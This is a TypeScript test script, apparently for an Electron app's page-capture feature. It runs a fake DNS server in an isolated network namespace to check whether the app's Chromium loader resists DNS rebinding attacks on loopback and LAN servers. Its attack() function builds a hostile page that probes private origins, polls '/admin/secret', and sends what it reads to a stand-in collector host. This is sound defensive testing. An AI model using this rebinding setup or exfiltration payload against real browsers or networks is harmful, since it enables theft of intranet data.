/** Runs in a network namespace (see test/long/rebinding.test.ts). Prints the outcomes as JSON lines. */
import { createSocket } from 'node:dgram'
import { createServer, type Server } from 'node:http'
import { createChromiumTargets } from '../../electron/server/chromium-target'
import { createPageLoader } from '../../electron/services/capture/page-loader'
import { CaptureOptions } from '../../shared/contract/capture'
import { toFailure } from '../../shared/base/failure'

const PUBLIC = '93.184.216.34'
const COLLECTOR = '93.184.216.35'
const LAN = '10.9.9.9'
const flip = (after: number, to: string) => (lookups: number) => (lookups < after ? [PUBLIC] : [to])

const NAMES: Readonly<Record<string, (lookups: number) => readonly string[]>> = {
  plain: () => [PUBLIC],
  mixed: () => [PUBLIC, '127.0.0.1'],
  mixedlan: () => [LAN, PUBLIC],
  mixedsix: () => [PUBLIC, '::1'],
  lan: () => [LAN],
  collect: () => [COLLECTOR],
  flip1: flip(1, '127.0.0.1'),
  flip2: flip(2, LAN),
  flip3: flip(3, '127.0.0.1'),
  alternating: (lookups) => (lookups % 2 === 0 ? [PUBLIC] : ['127.0.0.1']),
}

const lookups = new Map<string, number>()
const names = createSocket('udp4')
names.on('message', (message, from) => {
  const labels: string[] = []
  let at = 12
  for (let length = message[at] ?? 0; length > 0; length = message[at] ?? 0) {
    labels.push(message.toString('latin1', at + 1, at + 1 + length).toLowerCase())
    at += length + 1
  }
  const type = message.readUInt16BE(at + 1)
  const name = labels.join('.')
  const key = `${name} ${type}`
  lookups.set(key, (lookups.get(key) ?? 0) + 1)
  const all = NAMES[labels[0]?.replace(/-.*/, '') ?? '']?.((lookups.get(key) ?? 1) - 1) ?? []
  const records = all
    .filter((address) => address.includes(':') === (type === 28))
    .map((address) => {
      const bytes = address === '::1' ? [...Array<number>(15).fill(0), 1] : address.split('.').map(Number)
      return Buffer.from([0xc0, 12, 0, type, 0, 1, 0, 0, 0, 0, 0, bytes.length, ...bytes])
    })
  const head = Buffer.from(message.subarray(0, 12))
  head.writeUInt16BE(0x8580, 2)
  head.writeUInt16BE(1, 4)
  head.writeUInt16BE(records.length, 6)
  head.writeUInt32BE(0, 8)
  names.send(Buffer.concat([head, message.subarray(12, at + 5), ...records]), from.port, from.address)
})
await new Promise<void>((resolve) => names.bind(53, '127.0.0.1', resolve))

const inside: string[] = []
const stolen: string[] = []
const listen = (server: Server, address: string): Promise<void> =>
  new Promise((resolve, reject) => server.once('error', reject).listen({ port: 80, host: address, ipv6Only: true }, resolve))

for (const address of ['127.0.0.1', LAN, '::1']) {
  const server = createServer((request, response) => {
    const isStyle = request.url === '/own.css'
    const page = '<link rel=stylesheet href=/own.css><p>INSIDE-SECRET of the intranet, a page with words.'
    inside.push(`${address} ${request.headers.host}${request.url}`)
    response.writeHead(200, { 'Content-Type': isStyle ? 'text/css' : 'text/html', Connection: 'close' }).end(isStyle ? 'p{}' : page)
  })
  server.on('connection', () => inside.push(`connection to ${address}`))
  await listen(server, address)
}
await listen(
  createServer((request, response) => {
    stolen.push(request.url ?? '')
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('ok')
  }),
  COLLECTOR,
)

/**
 * Returns a page that requests resources from names with private addresses. The page also requests its own origin every 200 ms, even after
 * the server has closed.
 */
function attack(round: string): string {
  const others = ['flip1', 'flip2', 'alternating', 'mixed', 'mixedlan', 'mixedsix', 'lan'].map((name) => `http://${name}-${round}.test`)
  const parts = others.map(
    (origin) => `<img src="${origin}/x.png"><link rel=stylesheet href="${origin}/x.css"><script src="${origin}/x.js"></script>
      <iframe src="${origin}/frame"></iframe><img src="/to?${origin}/redirected">`,
  )
  return `<p>An ordinary article, with commas, and some more words.</p>${parts.join('')}<script>
    const send = (text) => fetch('http://collect.test/?got=' + encodeURIComponent(text), { mode: 'no-cors' })
    for (const origin of ${JSON.stringify(others)}) {
      fetch(origin + '/fetch').then((r) => r.text()).then(send, () => {})
      fetch('/to?' + origin + '/fetched').then((r) => r.text()).then(send, () => {})
      try { new WebSocket(origin.replace('http', 'ws') + '/socket') } catch {}
    }
    setInterval(() => fetch('/admin/secret').then((r) => r.text()).then(send, () => {}), 200)
  </script>`
}

let open: Server | null = null
/** The server closes its port soon after the page was sent, so that the browser tries the next address of the name. */
async function openPublic(round: string): Promise<void> {
  const server = createServer((request, response) => {
    const to = /^\/to\?(.*)/.exec(request.url ?? '')?.[1]
    if (to !== undefined) return response.writeHead(302, { Location: to, 'Access-Control-Allow-Origin': '*' }).end()
    response.writeHead(200, { 'Content-Type': 'text/html', Connection: 'close', 'Access-Control-Allow-Origin': '*' })
    response.end(request.url === '/' ? attack(round) : '<p>public')
    // After 500 ms, `open` can be the server of the next load, which must stay open.
    if (request.url === '/') setTimeout(() => open === server && void closePublic(), 500)
    return undefined
  })
  open = server
  await listen(server, PUBLIC)
}
async function closePublic(): Promise<void> {
  const server = open
  open = null
  if (server === null) return
  server.closeAllConnections()
  await new Promise((resolve) => server.close(resolve))
}

const targets = createChromiumTargets()
const loadPage = createPageLoader(targets.open)
const fromOutside = [
  ...Object.keys(NAMES).filter((one) => one !== 'collect' && one !== 'lan'),
  'plain-redirect-mixed',
  'plain-redirect-flip1',
]
const isFirst = process.argv[2] === 'first'
const half = fromOutside.filter((_, i) => (i % 2 === 0) === isFirst)
// The browser can request the icon of `lan` after the load, so `lan` is last.
for (const names of [half, isFirst ? [] : ['lan']])
  for (const [mode, name] of (['rendered', 'source'] as const).flatMap((mode) => names.map((name) => [mode, name] as const))) {
    inside.length = stolen.length = 0
    await openPublic(`${name}-${mode}`)
    const to = /redirect-(.*)/.exec(name)?.[1]
    const url = `http://${name}-${mode}.test/${to === undefined ? '' : `to?http://${to}-of-${mode}.test/`}`
    const options = CaptureOptions.parse({ mode, timeout: 30_000, idleCap: 5_000 })
    const context = { signal: new AbortController().signal, progress: () => undefined }
    const result = await loadPage({ kind: 'url', url }, options, context).then(
      ({ html, log }) => ({ code: 'ok', message: '', html, log }),
      (thrown: unknown) => ({ ...toFailure(thrown), html: '', log: [] }),
    )
    console.log(JSON.stringify({ name, mode, ...result, inside: [...inside], stolen: [...stolen] }))
    await closePublic()
  }
await targets.close()
process.exit(0)
